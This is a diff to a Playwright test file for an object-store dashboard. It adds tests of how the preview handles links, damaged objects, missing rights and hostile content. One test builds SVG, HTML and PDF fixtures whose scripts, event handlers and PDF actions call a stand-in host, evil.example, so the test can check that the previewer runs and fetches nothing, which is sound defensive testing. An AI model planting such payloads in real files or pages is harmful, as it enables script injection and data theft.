@@ -208,6 +208,7 @@ test('sound is played from anywhere in it without reading all', async ({ page, o
   const { name, os } = await bucketOf(site)
   const sound = wav(300) // 53 MB
   await put(os, { name: 'tone.wav' }, sound)
+  await put(os, { name: 'short.wav' }, wav(7))
   await put(os, { name: 'broken.wav' }, Buffer.concat([Buffer.from('RIFF\0\0\0\0WAVE'), Buffer.alloc(5000, 1)]))
   await look(page, site, name, 'tone.wav')
   const before = await sent()
@@ -232,10 +233,10 @@ test('sound is played from anywhere in it without reading all', async ({ page, o
 
   // Where there can be no service worker.
   await page.addInitScript(() => Reflect.deleteProperty(Navigator.prototype, 'serviceWorker'))
-  await look(page, site, name, 'tone.wav')
+  await look(page, site, name, 'short.wav')
   await preview(page).getByRole('button', { name: 'Open the player' }).click()
-  const whole = preview(page).getByLabel('Player of tone.wav')
-  await expect.poll(() => whole.evaluate((a: HTMLAudioElement) => Math.round(a.duration))).toBe(300)
+  const whole = preview(page).getByLabel('Player of short.wav')
+  await expect.poll(() => whole.evaluate((a: HTMLAudioElement) => Math.round(a.duration))).toBe(7)
 })
 
 test('the pages of a PDF are drawn, reading what they need', async ({ page, own }) => {
@@ -269,4 +270,135 @@ test('the pages of a PDF are drawn, reading what they need', async ({ page, own 
 
   await look(page, site, name, 'broken.pdf')
   await expect(preview(page).getByRole('alert')).toContainText('The document cannot be drawn')
+})
+
+/** Everything that a page, its workers and its frames ask for, other than of the dashboard itself. */
+function askedOutside(page: Page, site: Site): string[] {
+  const asked: string[] = []
+  page.context().on('request', (request) => {
+    const { origin, protocol } = new URL(request.url())
+    if (origin !== new URL(site.web.url).origin && !['blob:', 'data:', 'ws:'].includes(protocol)) asked.push(request.url())
+  })
+  return asked
+}
+
+test('what is in an object runs nothing and asks for nothing', async ({ page, site }) => {
+  const { name, os } = await bucketOf(site)
+  const attack = `window.attacked = 1; top.attacked = 1; parent.attacked = 1; fetch('https://evil.example/run')`
+  const svg = `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
+    width="40" height="30" onload="${attack}"><script>${attack}</script><script href="https://evil.example/a.js"/>
+    <image href="https://evil.example/a.png" width="9" height="9"/><use xlink:href="https://evil.example/b.svg#x"/>
+    <style>@import 'https://evil.example/c.css'; rect { fill: url(https://evil.example/d.svg#x) }</style><rect width="9" height="9"/>
+    <foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="${attack}"/>
+    <iframe src="https://evil.example/e"></iframe></body></foreignObject></svg>`
+  const html = `<!doctype html><script>${attack}</script><img src="https://evil.example/f.png" onerror="${attack}">`
+  await put(os, { name: 'bad.svg', type: 'image/svg+xml' }, svg)
+  await put(os, { name: 'bad.html', type: 'text/html' }, html)
+  await put(os, { name: 'photo.png', type: 'image/png' }, html)
+  await put(os, { name: 'song.mp3', type: 'audio/mpeg' }, html)
+  await put(os, { name: 'bad.pdf' }, pdf(['Bad'], { action: 'app.alert(1); this.submitForm("https://evil.example/g")' }))
+  const outside = askedOutside(page, site)
+  const attacked = async () => {
+    for (const frame of page.frames()) expect(await frame.evaluate(() => Reflect.get(window, 'attacked'))).toBeUndefined()
+    expect(outside).toEqual([])
+  }
+  page.on('dialog', (dialog) => outside.push(`dialog: ${dialog.message()}`))
+
+  await look(page, site, name, 'bad.svg')
+  await expect(preview(page)).toContainText('foreignObject')
+  await expect(preview(page).getByText('SVG picture')).toBeVisible()
+  await preview(page).getByText('Picture', { exact: true }).click()
+  await expect(preview(page).getByRole('status', { name: 'About the picture' })).toHaveText('image/svg+xml, 40 × 30')
+  await attacked()
+
+  await look(page, site, name, 'bad.html')
+  await expect(preview(page)).toContainText('<!doctype html>')
+  await attacked()
+
+  for (const [object, says] of [
+    ['photo.png', 'Its Content-Type is image/png, but its bytes are HTML: it is shown as that.'],
+    ['song.mp3', 'Its Content-Type is audio/mpeg, but its bytes are HTML: it is shown as that.'],
+  ] as const) {
+    await look(page, site, name, object)
+    await expect(preview(page).getByRole('note')).toHaveText(says)
+    await expect(preview(page)).toContainText('<!doctype html>')
+    await expect(preview(page).getByRole('img')).toHaveCount(0)
+    await attacked()
+  }
+
+  await look(page, site, name, 'bad.pdf')
+  await expect(preview(page).getByRole('status', { name: 'Pages' })).toHaveText('page 1 of 1')
+  // Its link covers the whole page.
+  await preview(page).locator('canvas').click()
+  await attacked()
+  expect(page.context().pages()).toHaveLength(1)
+})
+
+test('links, damaged, deleted and replaced objects say what they are', async ({ page, site }) => {
+  const { name, os } = await bucketOf(site)
+  const other = await bucketOf(site)
+  await put(other.os, { name: 'target' }, 'what is led to')
+  await os.link('link', (await other.os.info('target'))!)
+  await put(os, { name: 'gone' }, 'x')
+  await os.link('dangling', (await os.info('gone'))!)
+  await os.delete('gone')
+  await os.linkStore('whole', other.os)
+  // The client refuses to make one.
+  const round = (from: string, to: string) => ({
+    name: from,
+    bucket: name,
+    nuid: '',
+    size: 0,
+    chunks: 0,
+    options: { link: { bucket: name, name: to } },
+  })
+  for (const [from, to] of [
+    ['round', 'about'],
+    ['about', 'round'],
+  ] as const)
+    await site.js.publish(`$O.${name}.M.${Buffer.from(from).toString('base64')}`, JSON.stringify(round(from, to)))
+  await put(os, { name: 'bad.txt', chunk: 1000 }, 'a line\n'.repeat(100_000))
+  await put(os, { name: 'all gone' }, 'a line\n'.repeat(100))
+  const chunks = async (object: string) => `$O.${name}.C.${(await os.info(object))!.nuid}`
+  await site.jsm.streams.purge(`OBJ_${name}`, { filter: await chunks('bad.txt'), keep: 699 })
+  await site.jsm.streams.purge(`OBJ_${name}`, { filter: await chunks('all gone') })
+
+  await look(page, site, name, 'link')
+  await expect(preview(page)).toContainText(`A link: this is target in the bucket ${other.name}.`)
+  await expect(preview(page)).toContainText('what is led to')
+  for (const [object, says] of [
+    ['dangling', `The link dangling leads to gone in the bucket ${name}, which is not there`],
+    ['whole', `whole is a link to the bucket ${other.name}, not to an object`],
+    ['round', 'leads in a circle'],
+    ['bad.txt', 'bad.txt is damaged: 699 of its 700 chunks are there'],
+    ['all gone', 'all gone is damaged: 0 of its 1 chunks are there'],
+  ] as const) {
+    await look(page, site, name, object)
+    await expect(preview(page).getByRole('alert')).toContainText(says)
+  }
+  await open(page, site, `/objects/${name}?object=gone&deleted=true`)
+  await expect(pane(page, 'gone')).toContainText('This object is deleted')
+  await expect(preview(page)).toHaveCount(0)
+
+  await look(page, site, name, 'all gone')
+  await put(os, { name: 'all gone' }, 'it is back')
+  await expect(preview(page)).toContainText('it is back')
+})
+
+test('missing rights are said', async ({ page, own }) => {
+  const site = await own({
+    config: configOf({
+      extra: `authorization { users: [ { user: all, password: x }
+        { user: some, password: x, permissions: { publish: { deny: ["$JS.API.DIRECT.GET.*.$O.*.C.>", "$JS.API.DIRECT.GET.OBJ_rights",
+          "$JS.API.CONSUMER.CREATE.*.*.$O.rights.C.>", "$JS.API.STREAM.MSG.GET.OBJ_rights"] } } } ] }`,
+    }),
+    user: { user: 'all', pass: 'x' },
+    preset: { auth: 'password', user: 'some' },
+  })
+  const os = await new Objm(site.js).create('rights')
+  await put(os, { name: 'a.txt' }, 'nobody sees this')
+  await page.goto(`${site.web.url}/objects/rights?object=a.txt`)
+  await page.getByRole('textbox', { name: 'Password' }).fill('x')
+  await page.getByRole('button', { name: 'Connect', exact: true }).first().click()
+  await expect(preview(page).getByRole('alert')).toContainText('Permission to publish')
 })
